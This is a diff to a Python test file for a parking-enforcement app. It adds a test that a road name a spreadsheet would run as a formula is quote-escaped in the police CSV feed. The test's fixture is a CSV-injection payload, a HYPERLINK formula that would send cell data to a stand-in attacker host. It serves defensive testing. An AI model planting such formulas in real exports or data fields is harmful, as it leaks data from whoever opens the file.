@@ -27,7 +27,7 @@ from enforcement.models import Citation, Task, Violation
 from enforcement.models_warden import PlateCheck, TaskPhoto
 from fixtures.builders import SmallDistrict, build_small_district, cds_event
 from parking.clock import FixedClock
-from parking.models import Stay
+from parking.models import Road, Stay
 from parking.staff import issue_staff_token
 from sensors.models import CurbEvent
 
@@ -610,3 +610,17 @@ def test_the_police_feed_lists_police_and_escalated_tasks_with_evidence_as_json_
     problem(
         client.get(f"{API}/police/feed?format=xml", headers=town.auth("police")), 400, "invalid_parameters"
     )
+
+
+def test_a_road_name_that_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_police_csv(
+    client: FlaskClient, db: Session, town: Town
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    add_task(db, town, "T2-1", timedelta(minutes=20), team="police", rule="restriction")
+    db.get(Road, town.small.bay("T2-1").road_id).name = formula  # type: ignore[union-attr]
+    db.commit()
+
+    as_csv = client.get(f"{API}/police/feed", query_string={"format": "csv"}, headers=town.auth("police"))
+
+    rows = list(csv.DictReader(io.StringIO(as_csv.get_data(as_text=True))))
+    assert [r["road"] for r in rows] == ["'" + formula]
